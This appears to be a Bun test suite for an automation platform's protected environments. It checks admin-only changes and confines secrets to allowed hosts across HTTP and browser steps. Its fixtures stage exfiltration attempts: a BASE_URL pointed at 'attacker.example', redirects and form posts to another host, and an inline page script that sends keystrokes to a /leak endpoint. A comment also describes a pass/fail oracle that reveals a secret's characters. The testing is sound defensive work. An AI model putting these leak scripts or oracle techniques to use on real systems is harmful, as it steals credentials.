// Protected environments: only owners and admins change them or start runs (single or group) in them, and a
// run in one sends its secrets only to its allowed hosts (default: BASE_URL's host) — a step that would send a
// secret elsewhere fails before anything is sent, whoever wrote the automation.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { startTestServer, type TestServer } from "./helpers/server";
import { createAutomation, json, runToEnd, startRun, waitForRun } from "./helpers/runs";
import { startTargetApp, type TargetApp } from "./helpers/target-app";

const SECRET = "prod-Tok3n-5e9b1c77";

let s: TestServer;
let target: TargetApp;
let member: string;
let admin: string;
/** The target app under another name: same server, a host the environment does not allow. */
let elsewhere: string;

beforeAll(async () => {
  target = startTargetApp();
  elsewhere = target.url.replace("127.0.0.1", "localhost");
  s = await startTestServer({ rate_limit: { enabled: false } });
  member = (await s.userWithKey("member@acme.test", "acme", "member")).key;
  admin = (await s.userWithKey("admin@acme.test", "acme", "admin")).key;
  await json(await s.call("POST", "/projects", { name: "shop" }), 201);
  await json(
    await s.call("POST", "/projects/shop/environments", { name: "prod", variables: { BASE_URL: target.url }, secrets: { TOKEN: SECRET }, protected: true }),
    201,
  );
  await json(
    await s.call("POST", "/projects/shop/environments", { name: "staging", variables: { BASE_URL: target.url }, secrets: { TOKEN: "staging-token-1" } }),
    201,
  );
});
afterAll(async () => {
  await s.stop();
  await target.stop();
});

const env = async (name: string) =>
  json<{ protected: boolean; allowed_hosts: string[] | null; variables: Record<string, string>; secret_names: string[] }>(
    await s.call("GET", `/projects/shop/environments/${name}`),
  );
const sentSecret = () => target.seen.filter((r) => JSON.stringify(r).includes(SECRET)).length;

describe("who may change a protected environment", () => {
  test("its record says protected, with allowed_hosts null (the host of BASE_URL)", async () => {
    const prod = await env("prod");
    expect(prod.protected).toBe(true);
    expect(prod.allowed_hosts).toBeNull();
    expect((await env("staging")).protected).toBe(false);
  });

  test("a member gets 403 forbidden changing its variables, secrets, flag or hosts, or deleting it, and nothing changes", async () => {
    const before = await env("prod");
    for (const [method, body] of [
      ["PATCH", { variables: { BASE_URL: "https://attacker.example" } }],
      ["PATCH", { secrets: { TOKEN: "replaced-by-member" } }],
      ["PATCH", { protected: false }],
      ["PATCH", { allowed_hosts: ["attacker.example"] }],
      ["DELETE", undefined],
    ] as const) {
      const res = await s.call(method, "/projects/shop/environments/prod", body, member);
      const err = await json<{ error: string; message: string }>(res, 403);
      expect(err).toMatchObject({ error: "forbidden", message: 'the environment "prod" is protected: only owners and admins can change or delete it' });
    }
    expect(await env("prod")).toEqual(before);
  });

  test("a member cannot protect an environment either; an admin can change a protected one", async () => {
    const res = await s.call("PATCH", "/projects/shop/environments/staging", { protected: true }, member);
    expect((await json<{ error: string }>(res, 403)).error).toBe("forbidden");
    expect((await s.call("POST", "/projects/shop/environments", { name: "mine", protected: true }, member)).status).toBe(403);
    // Changes to an unprotected environment stay open to members.
    await json(await s.call("PATCH", "/projects/shop/environments/staging", { variables: { BASE_URL: target.url, X: "1" } }, member));
    const changed = await json<{ variables: Record<string, string> }>(
      await s.call("PATCH", "/projects/shop/environments/prod", { variables: { BASE_URL: target.url, REGION: "eu" } }, admin),
    );
    expect(changed.variables.REGION).toBe("eu");
  });

  test("allowed_hosts must be host names: a URL or host:port is a 400 naming the field", async () => {
    const res = await s.call("PATCH", "/projects/shop/environments/prod", { allowed_hosts: ["https://api.example.com/x"] });
    const err = await json<{ error: string; details: { path: string }[] }>(res, 400);
    expect(err.details.map((d) => d.path)).toEqual(["body.allowed_hosts.0"]);
    expect((await env("prod")).allowed_hosts).toBeNull();
  });
});

describe("runs in a protected environment", () => {
  const sendsToken = (url: string, name: string) => ({
    name,
    kind: "http",
    environment: "prod",
    steps: [{ request: { url, headers: { authorization: "Bearer {{TOKEN}}" } }, expect: [{ status: 200 }] }],
  });

  test("a member gets 403 starting one, alone or as a group, and nothing is queued", async () => {
    const id = await createAutomation(s, "shop", sendsToken("/echo", "member-run"));
    const single = await s.call("POST", `/projects/shop/automations/${id}/run`, {}, member);
    expect(await json(single, 403)).toMatchObject({
      error: "forbidden",
      message: 'the environment "prod" is protected: only owners and admins can start runs in it',
    });
    // Named explicitly, for an automation whose own environment is another one.
    const other = await createAutomation(s, "shop", { ...sendsToken("/echo", "staging-run"), environment: "staging" });
    expect((await s.call("POST", `/projects/shop/automations/${other}/run`, { environment: "prod" }, member)).status).toBe(403);
    const group = await json<{ id: string }>(await s.call("POST", "/projects/shop/groups", { name: "g", automation_ids: [other, id] }), 201);
    expect((await s.call("POST", `/projects/shop/groups/${group.id}/run`, {}, member)).status).toBe(403);
    expect((await s.call("POST", `/projects/shop/groups/${group.id}/run`, { environment: "prod" }, member)).status).toBe(403);
    const runs = await json<{ data: unknown[] }>(await s.call("GET", "/projects/shop/runs"));
    expect(runs.data).toEqual([]);
    // The member may still run in the unprotected environment.
    expect((await s.call("POST", `/projects/shop/automations/${other}/run`, {}, member)).status).toBe(202);
  });

  test("a step that would send a secret to another host fails before sending; to BASE_URL's host it is sent", async () => {
    const before = sentSecret();
    const away = await runToEnd(s, "shop", sendsToken(`${elsewhere}/echo`, "to-elsewhere"));
    expect(away.status).toBe("error");
    expect(away.steps[0]?.message).toBe(
      `the secret TOKEN was not sent to localhost: the protected environment "prod" sends its secrets only to its allowed_hosts (127.0.0.1)`,
    );
    expect(sentSecret()).toBe(before);
    // In the body or the query too, whatever the encoding.
    for (const request of [
      { method: "POST", url: `${elsewhere}/echo`, json: { t: "{{TOKEN}}" } },
      { url: `${elsewhere}/echo`, query: { t: "{{TOKEN}}" } },
    ]) {
      const run = await runToEnd(s, "shop", { name: `away-${crypto.randomUUID().slice(0, 6)}`, kind: "http", environment: "prod", steps: [{ request }] });
      expect(run.status).toBe("error");
    }
    expect(sentSecret()).toBe(before);
    // Without a secret, any host is fine.
    expect(
      (
        await runToEnd(s, "shop", {
          name: "plain",
          kind: "http",
          environment: "prod",
          steps: [{ request: { url: `${elsewhere}/echo` }, expect: [{ status: 200 }] }],
        })
      ).status,
    ).toBe("passed");
    const home = await runToEnd(s, "shop", sendsToken("/echo", "to-base-url"));
    expect(home.status).toBe("passed");
    expect(sentSecret()).toBe(before + 1);
    expect(JSON.stringify(home)).not.toContain(SECRET);
  });

  test("a redirect from the allowed host to another host does not carry the secret there", async () => {
    const before = sentSecret();
    const run = await runToEnd(s, "shop", {
      name: "redirected-away",
      kind: "http",
      environment: "prod",
      steps: [
        { request: { url: `/redirect-to?to=${encodeURIComponent(`${elsewhere}/echo`)}`, headers: { "x-token": "{{TOKEN}}" } }, expect: [{ status: 200 }] },
      ],
    });
    expect(run.status).toBe("error");
    expect(run.steps[0]?.message).toContain("the secret TOKEN was not sent to localhost");
    // The first hop went to the allowed host; the redirect's hop never left.
    expect(sentSecret()).toBe(before + 1);
    expect(JSON.stringify(run)).not.toContain(SECRET);
  });

  test("a check holding a secret is made only against what an allowed host answers: elsewhere, pass or fail would tell the secret", async () => {
    // Whoever answers learns from pass or fail: here whether the secret is a guess; with a pattern like ^[{{TOKEN}}]+$
    // (for a secret without a range in it), which characters it has, one answer at a time.
    const oracle = (url: string, name: string) => ({
      name,
      kind: "http",
      environment: "prod",
      steps: [{ request: { url }, expect: [{ status: 200 }, { json: "$.query.c", equals: "{{TOKEN}}" }] }],
    });
    const away = await runToEnd(s, "shop", oracle(`${elsewhere}/echo?c=z`, "oracle-away"));
    expect(away.status).toBe("error");
    expect(away.steps[0]?.message).toBe(
      `the secret TOKEN was not compared with what localhost answered: the protected environment "prod" checks its secrets only against its allowed_hosts (127.0.0.1)`,
    );
    expect(away.steps[0]?.assertions).toBeUndefined();
    // Redirected from the allowed host to another, the answer it would be checked against is the other's.
    const redirected = await runToEnd(s, "shop", oracle(`/redirect-to?to=${encodeURIComponent(`${elsewhere}/echo?c=z`)}`, "oracle-redirected"));
    expect(redirected.status).toBe("error");
    expect(redirected.steps[0]?.message).toContain("the secret TOKEN was not compared with what localhost answered");
    // Against the allowed host's answers the check is made, and passes or fails as written.
    expect((await runToEnd(s, "shop", oracle(`/echo?c=${SECRET}`, "oracle-home"))).status).toBe("passed");
    expect((await runToEnd(s, "shop", oracle("/echo?c=z", "oracle-home-fails"))).status).toBe("failed");
    // A check without a secret is made against any host.
    expect(
      (
        await runToEnd(s, "shop", {
          ...oracle(`${elsewhere}/echo?c=p`, "plain-away"),
          steps: [{ request: { url: `${elsewhere}/echo?c=p` }, expect: [{ json: "$.query.c", matches: "^[a-z]+$" }] }],
        })
      ).status,
    ).toBe("passed");
  });

  const browserInProd = (name: string, steps: unknown[]) => runToEnd(s, "shop", { name, kind: "browser", environment: "prod", steps });
  test("browser steps: an expectation or a locator holding a secret is used only on a page of an allowed host", async () => {
    for (const [name, step] of [
      ["expect-away", { expect: { text: "{{TOKEN}}" } }],
      ["click-away", { click: "text={{TOKEN}}" }],
    ] as const) {
      const away = await browserInProd(name, [{ goto: `${elsewhere}/login` }, step]);
      expect(away.status).toBe("error");
      expect(away.steps[1]?.message).toContain('the secret TOKEN was not compared with what localhost answered: the protected environment "prod"');
    }
    // On the allowed host it is looked for (and is not there: failed, not refused).
    expect((await browserInProd("expect-home", [{ goto: "/login" }, { expect: { text: "{{TOKEN}}" }, timeout_ms: 300 }])).status).toBe("failed");
  });

  test("allowed_hosts replaces the default: then only the hosts listed receive secrets", async () => {
    await json(await s.call("PATCH", "/projects/shop/environments/prod", { allowed_hosts: ["localhost"] }));
    try {
      const before = sentSecret();
      expect((await runToEnd(s, "shop", sendsToken(`${elsewhere}/echo`, "listed"))).status).toBe("passed");
      expect((await runToEnd(s, "shop", sendsToken("/echo", "not-listed"))).status).toBe("error");
      expect(sentSecret()).toBe(before + 1);
    } finally {
      await json(await s.call("PATCH", "/projects/shop/environments/prod", { allowed_hosts: null }));
    }
  });

  test("browser steps: a goto carrying a secret, or a fill of one into a page on another host, fails before it happens", async () => {
    const before = sentSecret();
    const goto = await runToEnd(s, "shop", { name: "goto-away", kind: "browser", environment: "prod", steps: [{ goto: `${elsewhere}/echo?t={{TOKEN}}` }] });
    expect(goto.status).toBe("error");
    expect(goto.steps[0]?.message).toContain("the secret TOKEN was not sent to localhost");
    const fill = await runToEnd(s, "shop", {
      name: "fill-away",
      kind: "browser",
      environment: "prod",
      steps: [{ goto: `${elsewhere}/login` }, { fill: { locator: "label=Password", value: "{{TOKEN}}" } }],
    });
    expect(fill.status).toBe("error");
    expect(fill.steps[1]?.message).toContain("the secret TOKEN was not sent to localhost");
    expect(sentSecret()).toBe(before);
    const home = await runToEnd(s, "shop", {
      name: "fill-home",
      kind: "browser",
      environment: "prod",
      steps: [{ goto: "/login" }, { fill: { locator: "label=Password", value: "{{TOKEN}}" } }],
    });
    expect(home.status).toBe("passed");
  });

  test("browser steps: a fill that reaches into a frame of another host does not type the secret there", async () => {
    // A page on the allowed host framing a page of another host, whose script sends what is typed home, encoded.
    const leaked: string[] = [];
    const pages = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch(req) {
        const u = new URL(req.url);
        const html = (body: string) => new Response(`<!doctype html><html><body>${body}</body></html>`, { headers: { "content-type": "text/html" } });
        if (u.pathname === "/outer") return html(`<h1>Outer</h1><iframe src="http://localhost:${u.port}/inner"></iframe>`);
        if (u.pathname === "/inner")
          return html(
            `<input aria-label="Card"><script>document.querySelector("input").addEventListener("input", (e) => fetch("/leak?v=" + btoa(e.target.value)).then(() => document.body.insertAdjacentHTML("beforeend", "<p>sent</p>")));</script>`,
          );
        if (u.pathname === "/leak") leaked.push(atob(u.searchParams.get("v") ?? ""));
        return new Response("ok");
      },
    });
    try {
      const framed = await runToEnd(s, "shop", {
        name: "fill-into-frame",
        kind: "browser",
        environment: "prod",
        steps: [{ goto: `http://127.0.0.1:${pages.port}/outer` }, { fill: { locator: "iframe >> internal:control=enter-frame >> input", value: "{{TOKEN}}" } }],
      });
      expect(framed.status).toBe("error");
      expect(framed.steps[1]?.message).toContain("the secret TOKEN was not sent to localhost");
      // Something else is typed there as ever (and the frame's script did send it: the leak would have been seen).
      const plain = await runToEnd(s, "shop", {
        name: "fill-into-frame-plain",
        kind: "browser",
        environment: "prod",
        steps: [
          { goto: `http://127.0.0.1:${pages.port}/outer` },
          { fill: { locator: "iframe >> internal:control=enter-frame >> input", value: "4242" } },
          // The frame's script has sent what was typed once the frame says so (the run's page closes at its end).
          { expect: { visible: "iframe >> internal:control=enter-frame >> text=sent" } },
        ],
      });
      expect(plain.status).toBe("passed");
      expect(leaked).toEqual(["4242"]);
    } finally {
      pages.stop(true);
    }
  });

  test("browser steps: a redirect, or a form the page sends, never carries a secret to another host", async () => {
    const before = sentSecret();
    const seenBefore = target.seen.length;
    const redirected = await runToEnd(s, "shop", {
      name: "browser-redirected-away",
      kind: "browser",
      environment: "prod",
      steps: [{ goto: `/redirect-to?to=${encodeURIComponent(`${elsewhere}/echo?t=`)}{{TOKEN}}` }],
    });
    expect(redirected.status).toBe("error");
    expect(redirected.steps[0]?.message).toContain("the secret TOKEN was not sent to localhost");
    // Two hops: the allowed host redirects to itself, still carrying the secret, then away.
    const away = encodeURIComponent(`${elsewhere}/echo?t=`);
    const chained = await runToEnd(s, "shop", {
      name: "browser-redirected-twice",
      kind: "browser",
      environment: "prod",
      steps: [{ goto: `/redirect-to?to=${encodeURIComponent("/redirect-to?to=")}${encodeURIComponent(away)}{{TOKEN}}` }],
    });
    expect(chained.status).toBe("error");
    expect(chained.steps[0]?.message).toContain("the secret TOKEN was not sent to localhost");
    const form = await runToEnd(s, "shop", {
      name: "browser-form-away",
      kind: "browser",
      environment: "prod",
      steps: [
        { goto: `/form-to?action=${encodeURIComponent(`${elsewhere}/echo`)}` },
        { fill: { locator: "label=Query", value: "{{TOKEN}}" } },
        { press: { locator: "label=Query", key: "Enter" } },
        { expect: { text: "never shown" } },
      ],
    });
    expect(form.status).toBe("error");
    expect(form.steps.find((st) => st.status === "error")?.message).toContain("the secret TOKEN was not sent to localhost");
    // Only the first hop of the redirect reached the allowed host; nothing reached the other one.
    expect(target.seen.slice(seenBefore).filter((r) => JSON.stringify(r).includes(SECRET) && r.path.startsWith("/echo")).length).toBe(0);
    expect(sentSecret()).toBe(before + 3);
    // The same form sent to the allowed host goes.
    const home = await runToEnd(s, "shop", {
      name: "browser-form-home",
      kind: "browser",
      environment: "prod",
      steps: [
        { goto: `/form-to?action=${encodeURIComponent("/echo")}` },
        { fill: { locator: "label=Query", value: "{{TOKEN}}" } },
        { press: { locator: "label=Query", key: "Enter" } },
        { wait_for: { url: { matches: "/echo" } } },
      ],
    });
    expect(home.status).toBe("passed");
  }, 60_000);

  test("browser steps: a request carrying a secret to an allowed host that cannot be reached fails its step, not the worker", async () => {
    const gone = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: () => new Response("") });
    const port = gone.port;
    gone.stop(true);
    const run = await runToEnd(s, "shop", {
      name: "browser-unreachable-home",
      kind: "browser",
      environment: "prod",
      steps: [{ goto: `http://127.0.0.1:${port}/x?t={{TOKEN}}` }],
    });
    expect(run.status).toBe("failed");
    expect(run.steps[0]?.message).toContain("net::ERR_FAILED");
    expect(run.error ?? "").not.toContain("worker process");
    // The worker lives on: the next run passes.
    expect((await runToEnd(s, "shop", { name: "browser-after-unreachable", kind: "browser", environment: "prod", steps: [{ goto: "/login" }] })).status).toBe(
      "passed",
    );
  }, 60_000);

  test("an owner's run of an automation a member edited cannot carry the secret to the member's URL", async () => {
    const id = await createAutomation(s, "shop", sendsToken("/echo", "owned"));
    await json(
      await s.call(
        "PATCH",
        `/projects/shop/automations/${id}`,
        { steps: [{ request: { url: `${elsewhere}/collect`, headers: { "x-t": "{{TOKEN}}" } } }] },
        member,
      ),
    );
    const before = sentSecret();
    const run = await waitForRun(s, "shop", await startRun(s, "shop", id));
    expect(run.status).toBe("error");
    expect(sentSecret()).toBe(before);
  });
});

describe("cancelling runs in a protected environment", () => {
  test("a member gets 403 cancelling a run or a group run there, and it goes on; an admin cancels it", async () => {
    const held = await createAutomation(s, "shop", {
      name: "held-in-prod",
      kind: "http",
      environment: "prod",
      steps: [{ request: { url: "/hold/protected-cancel" } }],
    });
    const runId = (await json<{ id: string }>(await s.call("POST", `/projects/shop/automations/${held}/run`, {}, admin), 202)).id;
    const refused = await s.call("POST", `/projects/shop/runs/${runId}/cancel`, undefined, member);
    expect(await json(refused, 403)).toMatchObject({
      error: "forbidden",
      message: 'the environment "prod" is protected: only owners and admins can cancel runs in it',
    });
    expect((await json<{ status: string }>(await s.call("GET", `/projects/shop/runs/${runId}`))).status).not.toBe("cancelled");
    const group = await json<{ id: string }>(await s.call("POST", "/projects/shop/groups", { name: "held-group", automation_ids: [held] }), 201);
    const gr = await json<{ id: string }>(await s.call("POST", `/projects/shop/groups/${group.id}/run`, {}, admin), 202);
    expect((await s.call("POST", `/projects/shop/group-runs/${gr.id}/cancel`, undefined, member)).status).toBe(403);
    expect((await s.call("POST", `/projects/shop/group-runs/${gr.id}/cancel`, undefined, admin)).status).toBe(200);
    expect((await s.call("POST", `/projects/shop/runs/${runId}/cancel`, undefined, admin)).status).toBe(200);
    target.release("protected-cancel");
  });
});
